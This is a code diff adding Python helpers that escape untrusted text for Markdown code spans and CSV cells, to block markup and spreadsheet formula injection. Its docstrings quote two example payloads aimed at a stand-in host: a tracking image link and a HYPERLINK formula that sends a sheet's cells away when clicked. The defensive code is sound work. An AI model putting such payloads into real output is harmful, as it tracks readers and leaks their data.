@@ -183,6 +183,39 @@ def shell_line(argv: Iterable[str]) -> str:
     return " ".join(shell_word(word) for word in argv)
 
 
+_TICKS = re.compile(r"`+")
+_PIPE = re.compile(r"(?<!\\)(\\*)\|")
+
+
+def markdown_code(text: object, cell: bool = False) -> str:
+    """Cluster text in a Markdown document someone pastes elsewhere (`rlark check --format md`, the saved record
+    attached to an issue): `one_line`, then an inline code span whose fence is longer than any run of backticks in
+    it. In a code span nothing is markup: no link or image (`![](http://x/track)` fetched a tracker for every reader
+    of the issue), no HTML (`<img>`), no autolink, `@mention` or `#123` reference; and a backtick of the text does
+    not end it. `cell`: inside a table row, where GitHub splits cells at `|` even within a code span, as `\\|`
+    (the backslashes before it doubled, so that `\\|` of the text is no escaped backslash and a split). '' for ''."""
+    text = one_line(text)
+    if not text:
+        return ""
+    fence = "`" * (max((len(run) for run in _TICKS.findall(text)), default=0) + 1)
+    pad = " " if text[0] in "` " or text[-1] in "` " else ""
+    if cell:
+        text = _PIPE.sub(lambda match: match.group(1) * 2 + "\\|", text)
+    return f"{fence}{pad}{text}{pad}{fence}"
+
+
+_FORMULA = ("=", "+", "-", "@")
+
+
+def csv_cell(text: object) -> str:
+    """Cluster text in a cell of CSV output (`rlark metrics -o csv`: TensorBoard tags the Job's code names): `one_line`,
+    and a cell a spreadsheet would read as a formula (its first character other than a space `=`, `+`, `-` or `@`:
+    `=HYPERLINK("http://x/?"&A2,"open")` sends the sheet's cells away when clicked) begins with `'`, which makes it
+    text. rlark's own numbers are written as they are."""
+    text = one_line(text)
+    return "'" + text if text.lstrip(" ").startswith(_FORMULA) else text
+
+
 _FILE_CHARS = re.compile(r"[^A-Za-z0-9._-]")
 FILE_CHARS = 100
 
